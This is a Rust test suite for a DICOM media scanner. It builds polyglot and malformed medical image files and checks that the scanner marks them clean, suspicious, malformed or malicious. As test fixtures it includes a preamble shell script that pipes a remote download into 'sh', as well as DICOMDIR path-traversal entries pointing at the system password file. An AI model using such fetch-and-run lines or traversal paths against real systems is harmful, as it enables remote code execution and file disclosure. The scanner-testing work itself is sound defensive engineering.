//! `scan` over a corpus the tests build themselves, and over every DICOM file pydicom ships.
#![allow(clippy::vec_init_then_push)]

mod common;

use std::path::Path;

use common::*;
use radguard_media::{
    scan_bytes, scan_dataset, scan_path, scan_reader, FileReport, FindingCode as C, ScanOptions,
    Severity, Verdict,
};

fn scan(bytes: &[u8]) -> FileReport {
    scan_bytes(bytes, &ScanOptions::default())
}

fn has(r: &FileReport, code: C) -> bool {
    r.findings.iter().any(|f| f.code == code)
}

fn show(r: &FileReport) -> String {
    r.findings
        .iter()
        .map(|f| format!("{} {} {:?} {}", f.severity, f.code, f.offset, f.message))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn clean_controls_are_clean() {
    let r = scan(&clean_ct("1.2.3.1", &[]));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));

    // Implicit VR little endian.
    let inst = "1.2.3.2";
    let mut ds = Vec::new();
    ds.push(iel(0x0008, 0x0016, b"UI", CT.as_bytes()));
    ds.push(iel(0x0008, 0x0018, b"UI", inst.as_bytes()));
    ds.push(iel(0x0010, 0x0010, b"PN", b"Implicit^Patient"));
    ds.push(iel(0x0028, 0x0010, b"US", &us(4)));
    ds.push(iel(0x0028, 0x0011, b"US", &us(4)));
    ds.push(iel(0x0028, 0x0100, b"US", &us(8)));
    ds.push(iel(0x7FE0, 0x0010, b"OB", &pixels(16, 1)));
    let r = scan(&part10(
        &[0; 128],
        IMPLICIT_LE,
        CT,
        inst,
        &assemble(ds.clone()),
    ));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));

    // Nested sequences of both length kinds, private block with text.
    let inner = el(0x0008, 0x1150, b"UI", b"1.2.3");
    let mut extra = Vec::new();
    extra.push(seq_defined(0x0008, 0x1140, &[inner.clone(), inner.clone()]));
    extra.push(el(0x0009, 0x0010, b"LO", b"ACME 1.0"));
    extra.push(el(0x0009, 0x1001, b"LO", b"private text"));
    extra.push(seq_undefined(0x0009, 0x1002, std::slice::from_ref(&inner)));
    extra.push(seq_undefined(0x0018, 0x9346, &[inner]));
    let r = scan(&clean_ct("1.2.3.3", &extra));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));
}

#[test]
fn random_mz_bytes_in_pixels_are_not_executables() {
    let inst = "1.2.3.4";
    let mut px = pixels(512 * 512 * 2, 99);
    for i in (0..px.len() - 2).step_by(1021) {
        px[i] = b'M';
        px[i + 1] = b'Z';
    }
    let mut ds = ct_header(inst);
    ds.extend(pixel_module(512, 512));
    ds.push(el(0x7FE0, 0x0010, b"OW", &px));
    let r = scan(&part10(
        &[0; 128],
        EXPLICIT_LE,
        CT,
        inst,
        &assemble(ds.clone()),
    ));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));
}

#[test]
fn pedicom_polyglot_is_malicious() {
    let r = scan(&pedicom());
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));
    let f = r
        .findings
        .iter()
        .find(|f| f.code == C::PreambleExecutable)
        .expect("preamble finding");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.message.contains("PE\\0\\0"), "{}", f.message);
    // Streamed (unknown length) gives the same verdict.
    let r = scan_reader(&pedicom()[..], &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));
}

#[test]
fn mz_without_pe_is_suspicious_only() {
    let mut pre = [0u8; 128];
    pre[..2].copy_from_slice(b"MZ");
    pre[0x3c..0x40].copy_from_slice(&0x400u32.to_le_bytes());
    let r = scan(&clean_ct_with_preamble("1.2.3.5", &[], pre));
    assert_eq!(r.verdict, Verdict::Suspicious, "{}", show(&r));
    assert!(has(&r, C::PreambleDosHeader));
}

#[test]
fn full_executables_inside_private_and_un_elements() {
    for (name, payload, vr) in [
        ("pe", pe_image(0x80), b"OB"),
        ("pe-far", pe_image(0x2400), b"OB"),
        ("elf", elf_header(), b"UN"),
        ("macho", macho_header(), b"OB"),
    ] {
        let mut blob = pixels(1000, 3);
        blob.extend(&payload);
        blob.extend(pixels(333, 4));
        let mut extra = Vec::new();
        extra.push(el(0x0009, 0x0010, b"LO", b"ACME 1.0"));
        extra.push(el(0x0009, 0x1001, vr, &blob));
        let r = scan(&clean_ct("1.2.3.6", &extra));
        assert_eq!(r.verdict, Verdict::Malicious, "{name}: {}", show(&r));
        assert!(has(&r, C::EmbeddedExecutable), "{name}");
    }
}

#[test]
fn elf_polyglot_is_malicious() {
    let mut pre = [0u8; 128];
    pre[..64].copy_from_slice(&elf_header());
    let r = scan(&clean_ct_with_preamble("1.2.3.7", &[], pre));
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));
    assert!(has(&r, C::PreambleExecutable));
}

#[test]
fn preamble_scripts_archives_and_tiff() {
    let cases: [(&[u8], Verdict, C); 4] = [
        (
            b"#!/bin/sh\ncurl x|sh\n",
            Verdict::Malicious,
            C::PreambleExecutable,
        ),
        (
            b"PK\x03\x04\x14\x00",
            Verdict::Suspicious,
            C::PreambleArchive,
        ),
        (b"%PDF-1.7", Verdict::Suspicious, C::PreambleArchive),
        (
            b"II*\x00\x08\x00\x00\x00",
            Verdict::Suspicious,
            C::PreambleTiff,
        ),
    ];
    for (magic, verdict, code) in cases {
        let mut pre = [0u8; 128];
        pre[..magic.len()].copy_from_slice(magic);
        let r = scan(&clean_ct_with_preamble("1.2.3.8", &[], pre));
        assert_eq!(r.verdict, verdict, "{}", show(&r));
        assert!(has(&r, code));
    }
    let mut pre = [0u8; 128];
    pre[..4].copy_from_slice(b"MM\x00*");
    let opts = ScanOptions {
        allow_tiff_preamble: true,
        ..ScanOptions::default()
    };
    let r = scan_bytes(&clean_ct_with_preamble("1.2.3.8", &[], pre), &opts);
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));
}

#[test]
fn trailing_garbage() {
    let mut f = clean_ct("1.2.3.9", &[]);
    let end = f.len() as u64;
    f.extend(pixels(1001, 5));
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Suspicious, "{}", show(&r));
    let t = r
        .findings
        .iter()
        .find(|f| f.code == C::TrailingData)
        .unwrap();
    assert_eq!(t.offset, Some(end));
    assert!(t.message.starts_with("1001 bytes"), "{}", t.message);

    // A PE appended after the data set.
    let mut f = clean_ct("1.2.3.9", &[]);
    f.extend(pe_image(0x80));
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));
}

#[test]
fn bad_meta_group_length_and_mismatch() {
    let mut f = clean_ct("1.2.3.10", &[]);
    // Group length value sits at 132 + 8.
    let v = u32::from_le_bytes(f[140..144].try_into().unwrap()) + 10;
    f[140..144].copy_from_slice(&v.to_le_bytes());
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::MetaGroupLength));

    let mut ds = ct_header("1.2.3.11");
    ds.extend(pixel_module(16, 16));
    ds.push(el(0x7FE0, 0x0010, b"OW", &pixels(512, 1)));
    let r = scan(&part10(
        &[0; 128],
        EXPLICIT_LE,
        CT,
        "1.2.3.999",
        &assemble(ds.clone()),
    ));
    assert_eq!(r.verdict, Verdict::Suspicious, "{}", show(&r));
    assert!(has(&r, C::MetaMismatch));

    let r = scan(&part10(
        &[0; 128],
        "1.2.3.4.5.6.7",
        CT,
        "1.2.3.11",
        &assemble(ds.clone()),
    ));
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::UnknownTransferSyntax));
}

#[test]
fn length_0xfffffff0_is_impossible() {
    let inst = "1.2.3.12";
    let mut ds = ct_header(inst);
    ds.push(el_len(0x0009, 0x1001, b"OB", 0xFFFF_FFF0, &pixels(64, 1)));
    let f = part10(&[0; 128], EXPLICIT_LE, CT, inst, &assemble(ds.clone()));
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::ImpossibleLength));
    // Also when the total size is unknown (stream).
    let r = scan_reader(&f[..], &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::ImpossibleLength));
}

#[test]
fn truncated_pixel_data() {
    // Pixel data shorter than Rows×Columns×Samples×Bits.
    let inst = "1.2.3.13";
    let mut ds = ct_header(inst);
    ds.extend(pixel_module(512, 512));
    ds.push(el(0x7FE0, 0x0010, b"OW", &pixels(1000, 1)));
    let r = scan(&part10(
        &[0; 128],
        EXPLICIT_LE,
        CT,
        inst,
        &assemble(ds.clone()),
    ));
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::PixelDataLength));

    // A file cut in the middle of its pixel data.
    let mut f = clean_ct(inst, &[]);
    f.truncate(f.len() - 100);
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    let r = scan_reader(&f[..], &ScanOptions::default());
    assert!(has(&r, C::Truncated), "{}", show(&r));

    // Dimensions whose product overflows 64 bits are caught, not wrapped.
    let mut ds = ct_header(inst);
    ds.extend(pixel_module(65535, 65535));
    ds.push(el(0x0028, 0x0008, b"IS", b"99999999999999"));
    ds.push(el(0x7FE0, 0x0010, b"OW", &pixels(16, 1)));
    let r = scan(&part10(
        &[0; 128],
        EXPLICIT_LE,
        CT,
        inst,
        &assemble(ds.clone()),
    ));
    assert!(has(&r, C::PixelDataLength), "{}", show(&r));
}

#[test]
fn undefined_length_misuse_and_nesting() {
    let inst = "1.2.3.14";
    let mut ds = ct_header(inst);
    ds.push(el_len(0x0018, 0x1030, b"UT", 0xFFFF_FFFF, b"text"));
    let r = scan(&part10(
        &[0; 128],
        EXPLICIT_LE,
        CT,
        inst,
        &assemble(ds.clone()),
    ));
    assert!(has(&r, C::UndefinedLengthMisuse), "{}", show(&r));
    assert_eq!(r.verdict, Verdict::Malformed);

    let mut nested = el(0x0008, 0x1150, b"UI", b"1.2.3");
    for _ in 0..40 {
        nested = seq_undefined(0x0008, 0x1140, &[nested]);
    }
    let mut ds = ct_header(inst);
    ds.push(nested);
    let r = scan(&part10(
        &[0; 128],
        EXPLICIT_LE,
        CT,
        inst,
        &assemble(ds.clone()),
    ));
    assert!(has(&r, C::NestingTooDeep), "{}", show(&r));
}

#[test]
fn nesting_limit_is_the_scanner_preset() {
    // The scanner follows nesting as deep as the gateway (radguard-dicom's Limits::SCANNER):
    // what one inspector refuses for its depth, the other must not read whole.
    let limit = radguard_dicom::limits::Limits::SCANNER.max_depth;
    assert_eq!(ScanOptions::default().max_depth, limit);
    let inst = "1.2.3.14";
    let nested = |levels: usize| {
        let mut n = el(0x0008, 0x1150, b"UI", b"1.2.3");
        for _ in 0..levels {
            n = seq_undefined(0x0008, 0x1140, &[n]);
        }
        let mut ds = ct_header(inst);
        ds.push(n);
        part10(&[0; 128], EXPLICIT_LE, CT, inst, &assemble(ds))
    };
    let r = scan(&nested(limit));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));
    let r = scan(&nested(limit + 1));
    assert!(has(&r, C::NestingTooDeep), "{}", show(&r));
    let shallow = ScanOptions {
        max_depth: 4,
        ..ScanOptions::default()
    };
    let r = scan_bytes(&nested(5), &shallow);
    assert!(has(&r, C::NestingTooDeep), "{}", show(&r));
}

#[test]
fn executable_inside_encapsulated_pdf() {
    let r = scan(&encapsulated_pdf(&pdf_with(&pe_image(0x80))));
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));
    assert!(has(&r, C::EmbeddedExecutable));

    let r = scan(&encapsulated_pdf(&pdf_with(
        b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    )));
    assert_eq!(r.verdict, Verdict::Suspicious, "{}", show(&r));
    assert!(has(&r, C::EncapsulatedDocument));

    let r = scan(&encapsulated_pdf(&pdf_with(b"plain text")));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));
}

#[test]
fn dicomdir_paths() {
    let media = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(media.path().join("DICOM/ST1")).unwrap();
    std::fs::write(media.path().join("DICOM/ST1/IM1"), clean_ct("1.2.3.1", &[])).unwrap();
    let dd = media.path().join("DICOMDIR");

    std::fs::write(&dd, dicomdir(&["DICOM\\ST1\\IM1"])).unwrap();
    let r = scan_path(&dd, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));

    std::fs::write(&dd, dicomdir(&["DICOM\\ST1\\IM1", "..\\..\\ETC\\PASSWD"])).unwrap();
    let r = scan_path(&dd, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));
    assert!(has(&r, C::DicomdirPath));

    std::fs::write(&dd, dicomdir(&["/ETC/PASSWD"])).unwrap();
    let r = scan_path(&dd, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Malicious, "{}", show(&r));

    std::fs::write(&dd, dicomdir(&["DICOM\\ST1\\IM2"])).unwrap();
    let r = scan_path(&dd, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Suspicious, "{}", show(&r));
    assert!(has(&r, C::DicomdirMissingFile));

    #[cfg(unix)]
    {
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("SECRET"), b"x").unwrap();
        std::os::unix::fs::symlink(outside.path(), media.path().join("LINK")).unwrap();
        std::fs::write(&dd, dicomdir(&["LINK\\SECRET"])).unwrap();
        let r = scan_path(&dd, &ScanOptions::default());
        assert!(has(&r, C::DicomdirOutsideRoot), "{}", show(&r));
    }
}

#[test]
fn deflate_bomb_and_valid_deflate() {
    let inst = "1.2.3.17";
    let mut ds = ct_header(inst);
    ds.extend(pixel_module(16, 16));
    ds.push(el(0x7FE0, 0x0010, b"OW", &pixels(512, 1)));
    let r = scan(&deflated_file(&assemble(ds.clone()), inst));
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));

    // 64 MiB of zeros in a private element: about 64 KiB compressed.
    let mut ds = ct_header(inst);
    ds.push(el(0x0009, 0x0010, b"LO", b"BOMB"));
    ds.push(el(0x0009, 0x1001, b"OB", &vec![0u8; 64 << 20]));
    let f = deflated_file(&assemble(ds.clone()), inst);
    assert!(f.len() < 1 << 20);
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::DeflateBomb));

    // The absolute size limit too.
    let opts = ScanOptions {
        max_inflated_bytes: 1 << 20,
        ..ScanOptions::default()
    };
    let r = scan_bytes(&f, &opts);
    assert!(has(&r, C::DeflateBomb), "{}", show(&r));
}

#[test]
fn deflate_stream_cut_short_is_invalid() {
    let inst = "1.2.3.17";
    let mut ds = ct_header(inst);
    ds.extend(pixel_module(16, 16));
    ds.push(el(0x7FE0, 0x0010, b"OW", &pixels(512, 1)));
    let mut f = deflated_file(&assemble(ds), inst);
    f.truncate(f.len() - 40);
    let r = scan(&f);
    assert_eq!(r.verdict, Verdict::Malformed, "{}", show(&r));
    assert!(has(&r, C::DeflateInvalid), "{}", show(&r));
    // Garbage instead of a deflate stream.
    let mut g = part10_header(&[0; 128], DEFLATED, CT, inst);
    g.extend([0xFF; 300]);
    let r = scan(&g);
    assert!(has(&r, C::DeflateInvalid), "{}", show(&r));
}

#[test]
fn not_dicom_and_raw_datasets() {
    let r = scan(b"hello, this is a text file and not DICOM at all.............");
    assert_eq!(r.verdict, Verdict::NotDicom);
    let mut exe = pe_image(0x80);
    exe.extend(vec![0u8; 200]);
    let r = scan(&exe);
    assert_eq!(r.verdict, Verdict::NotDicom, "{}", show(&r));
    assert!(r.findings[0].message.contains("executable"));

    // A bare data set through the gateway entry point.
    let mut ds = ct_header("1.2.3.18");
    ds.extend(pixel_module(16, 16));
    ds.push(el(0x7FE0, 0x0010, b"OW", &pixels(512, 1)));
    let ds = assemble(ds);
    let r = scan_dataset(&ds[..], EXPLICIT_LE, &ScanOptions::default());
    assert_eq!(r.verdict, Verdict::Clean, "{}", show(&r));
    let mut bad = ds.clone();
    bad.extend(el(0x0009, 0x0010, b"LO", b"X"));
    let r = scan_dataset(&bad[..], EXPLICIT_LE, &ScanOptions::default());
    assert_ne!(
        r.verdict,
        Verdict::Clean,
        "out-of-order tag after pixel data"
    );
}

#[test]
fn never_panics_on_mutations() {
    // Cheap mutation sweep over a file that exercises most of the walker.
    let mut extra = Vec::new();
    extra.push(seq_defined(
        0x0008,
        0x1140,
        &[el(0x0008, 0x1150, b"UI", b"1.2")],
    ));
    extra.push(el(0x0009, 0x0010, b"LO", b"ACME"));
    extra.push(seq_undefined(
        0x0009,
        0x1002,
        &[el(0x0009, 0x1003, b"OB", &pe_image(0x40))],
    ));
    let base = clean_ct("1.2.3.19", &extra);
    let mut x: u32 = 12345;
    for i in 0..4000 {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        let mut f = base.clone();
        let pos = (x as usize) % f.len();
        f[pos] = (x >> 24) as u8;
        if i % 3 == 0 {
            f.truncate((x as usize >> 3) % f.len());
        }
        let _ = scan(&f);
        let _ = scan_reader(&f[..], &ScanOptions::default());
    }
}

#[test]
fn every_pydicom_file_scans_and_none_is_malicious() {
    let files = pydicom_files();
    assert!(
        files.len() >= 50,
        "found only {} DICOM files in pydicom's package",
        files.len()
    );
    let mut verdicts = std::collections::BTreeMap::new();
    for f in &files {
        let r = scan_path(f, &ScanOptions::default());
        assert_ne!(
            r.verdict,
            Verdict::Malicious,
            "{} called malicious:\n{}",
            f.display(),
            show(&r)
        );
        *verdicts.entry(r.verdict).or_insert(0) += 1;
    }
    eprintln!("pydicom files: {} {:?}", files.len(), verdicts);
    assert!(verdicts.get(&Verdict::Clean).copied().unwrap_or(0) >= files.len() / 2);
}

#[test]
fn scan_path_reports_io_problems() {
    let r = scan_path(
        Path::new("/nonexistent/radguard/file.dcm"),
        &ScanOptions::default(),
    );
    assert!(has(&r, C::Io));
}
